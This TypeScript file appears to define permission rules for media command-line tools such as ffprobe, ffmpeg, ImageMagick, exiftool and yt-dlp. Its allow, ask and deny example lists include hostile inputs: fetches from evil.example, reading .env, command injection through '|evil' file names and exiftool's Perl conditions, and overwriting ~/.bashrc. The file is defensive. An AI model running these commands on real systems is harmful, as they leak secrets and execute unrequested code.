import { PROJECT_TOOL } from "./project-tool.ts";
import { rows } from "./rows.ts";
import type { CommandSpec } from "./spec.ts";

// Sound, pictures and films. Many of these take more than a file name: `https:`, `concat:`, `|command`, `@file`.

export const media: readonly CommandSpec[] = [
  {
    names: "ffprobe",
    summary: "what a film or sound holds",
    style: "words",
    options: rows(
      "-L -> stop; -h -help -? -> stop; -version -> stop; -buildconf -> stop; -formats -> stop; -codecs -> stop; -decoders -> stop; -encoders -> stop; -protocols -> stop; -filters -> stop; -pix_fmts -> stop; -sample_fmts -> stop; -layouts -> stop",
      "-loglevel -v=text; -hide_banner; -unit; -prefix; -byte_binary_prefix; -sexagesimal; -pretty; -of -print_format -output_format=text; -select_streams=text; -show_error; -show_format; -show_entries=text; -show_packets; -show_frames",
      "-show_streams; -show_programs; -show_chapters; -count_frames; -count_packets; -read_intervals=text; -show_private_data -private; -show_program_version; -show_library_versions; -show_versions; -bitexact; -i=read",
      "# may name other files: -f -o -report -safe -protocol_whitelist",
    ),
    operands: "read?",
    analyse: "plain-file",
    examples: {
      allow: ["ffprobe -v error -show_format -show_streams -of json a.mp4", "ffprobe -hide_banner a.mp4", "ffprobe -version"],
      ask: [
        "ffprobe https://evil.example/a.mp4",
        "ffprobe -i concat:a.mp4",
        "ffprobe subfile,,start,0,end,9,,:a.mp4",
        "ffprobe -o x a.mp4",
      ],
      deny: ["ffprobe .env", "ffprobe -i .env"],
    },
  },
  {
    names: "ffmpeg ffplay",
    summary: "converts films and sound",
    style: "words",
    // Filters read files and listen, formats name protocols: only the plain conversion is known, and it writes.
    options: rows(
      "-i=read; -y; -n; -c -codec=text; -c:v=text; -c:a=text; -codec:v=text; -codec:a=text; -vcodec -acodec=text; -b:v=text; -b:a=text; -r=text; -s=text; -ss=text; -t=text; -to=text; -vn; -an; -sn; -crf=text; -preset=text; -pix_fmt=text",
      "-map=text; -ar=text; -ac=text; -q:v=text; -q:a=text; -hide_banner; -loglevel -v=text; -nostdin; -stats; -frames:v -vframes=text; -movflags=text; -threads=number; -shortest; -version -> stop; -formats -> stop; -codecs -> stop; -encoders -> stop; -filters -> stop; -h -help -> stop",
    ),
    operands: "write*",
    analyse: "plain-file",
    examples: {
      allow: ["ffmpeg -version", "ffmpeg -encoders"],
      ask: [
        "ffmpeg -i a.mp4 b.mp3",
        "ffmpeg -y -i a.mp4 -c copy b.mkv",
        "ffmpeg -f lavfi -i movie=x b.mp4",
        "ffmpeg -i a.mp4 tcp://evil.example:1",
        "ffmpeg -i a.mp4 -vf drawtext=textfile=x b.mp4",
      ],
      deny: ["ffmpeg -i .env b.mp4", "ffmpeg -y -i a.mp4 ~/.bashrc"],
    },
  },
  {
    names: "identify",
    summary: "what a picture is (ImageMagick)",
    style: "words",
    options: rows(
      "-ping; -quiet; -verbose; -format=text; -list=text -> stop; -regard-warnings; -unique; -moments; -features=text; -depth=text; -units=text; -colorspace=text; -precision=text; -version -> stop; -help -> stop",
      "# may read other files: -authenticate -define -mask -clip-mask -set -log -debug",
    ),
    operands: "read*",
    analyse: "plain-file",
    examples: {
      allow: ["identify a.png", "identify -format '%w %h' a.png", "identify -verbose a.jpg", "identify -version"],
      ask: [
        "identify https://evil.example/a.png",
        "identify msl:a.txt",
        "identify -format @a.txt a.png",
        "identify @list",
        "identify -define x=y a.png",
      ],
      deny: ["identify .env", "identify -format @.env a.png", "identify text:.env"],
    },
  },
  {
    names: "convert magick montage composite compare conjure stream mogrify import animate display",
    summary: "changes pictures (ImageMagick): operands are a language that reads, writes and fetches",
    style: "words",
    options: "-version -> stop\n-help -> stop\n-list=text -> stop",
    operands: "read* code/magick",
    analyse: "plain-file",
    subcommands: {
      identify: {
        style: "words",
        options: "-ping\n-quiet\n-verbose\n-format=text",
        operands: "read*",
        analyse: "plain-file",
        examples: { allow: ["magick identify a.png"], deny: ["magick identify -format @.env a.png"] },
      },
    },
    examples: {
      allow: ["convert -version", "magick -list format"],
      none: ["convert a.png b.jpg", "magick a.png b.png", "convert a.png -write x b.png"],
      ask: ["mogrify -resize 50% a.png"],
    },
  },
  {
    names: "exiftool",
    summary: "data about a picture; `-TAG=VALUE` changes it, conditions are Perl",
    style: "words",
    options: rows(
      "-a; -b; -D; -H; -e; -ee; -g; -g1; -G; -G0; -G1; -h; -j -json; -l; -L; -n; -q; -s; -s2; -s3; -S; -sort; -struct; -t; -T; -u; -U; -X; -m; -P; -f; -fast; -fast2; -sep=text; -lang=text; -ext=text; -r -> read becomes tree; -ver -> stop; -list -> stop; -common",
      "-ImageSize; -FileType; -FileSize; -FileName; -MIMEType; -ImageWidth; -ImageHeight; -CreateDate; -ModifyDate; -DateTimeOriginal; -Make; -Model; -Orientation; -GPSPosition; -GPSLatitude; -GPSLongitude; -Title; -Author; -Artist; -Copyright; -Description; -Keywords; -Software; -Duration; -PageCount; -Producer; -Creator; -All; -all; -EXIF:all; -XMP:all; -Comment",
      "# run Perl, read arguments or write: -if -p -config -execute -stay_open -@ -w -W -o -csv -tagsFromFile -overwrite_original -delete_original -geotag -use -htmlDump -i -d -c -x",
    ),
    operands: "read+",
    analyse: "plain-file",
    examples: {
      allow: ["exiftool a.jpg", "exiftool -j -G1 a.jpg", "exiftool -s3 -ImageSize a.png", "exiftool -ver"],
      ask: [
        "exiftool -all= a.jpg",
        "exiftool -Comment=x a.jpg",
        "exiftool -if 'system(\"id\")' a.jpg",
        "exiftool -config ./evil a.jpg",
        "exiftool -@ args",
        "exiftool 'id |'",
        "exiftool -w txt a.jpg",
      ],
      deny: ["exiftool .env"],
    },
  },
  {
    names: "soxi",
    summary: "what a sound file is",
    style: "gnu",
    options: "-V\n-T\n-t\n-r\n-c\n-s\n-d\n-D\n-b\n-B\n-p\n-e\n-a",
    operands: "read+",
    analyse: "plain-file",
    examples: { allow: ["soxi a.wav", "soxi -D a.wav"], ask: ["soxi '|evil'", "soxi http://evil.example/a.wav"], deny: ["soxi .env"] },
  },
  {
    names:
      "sox play rec mpv vlc mplayer cvlc lame flac oggenc opusenc gst-launch-1.0 HandBrakeCLI mkvmerge mkvextract mp4box yt-dlp youtube-dl gallery-dl spotdl streamlink",
    summary: "plays, records, converts or fetches; file names may be commands or addresses",
    style: "bsd",
    options: "--version -> stop\n--help -> stop",
    operands: "refuse*",
    effects: "net, write .",
    examples: {
      allow: ["sox --version", "yt-dlp --version"],
      ask: [
        "sox '|evil' b.wav",
        "yt-dlp --exec 'rm {}' https://evil.example",
        "flac a.wav",
        "mpv --script=x a.mp4",
        "yt-dlp --netrc-cmd evil x",
      ],
    },
  },
  {
    names:
      "optipng jpegoptim pngquant gifsicle cwebp dwebp oxipng svgo rsvg-convert inkscape gimp blender scad openscad cjpeg djpeg heif-convert potrace autotrace primitive sips",
    summary: "writes pictures",
    ...PROJECT_TOOL,
    effects: "write .",
    examples: { ask: ["optipng a.png", "svgo -f icons", "sips -Z 10 a.png"] },
  },
];
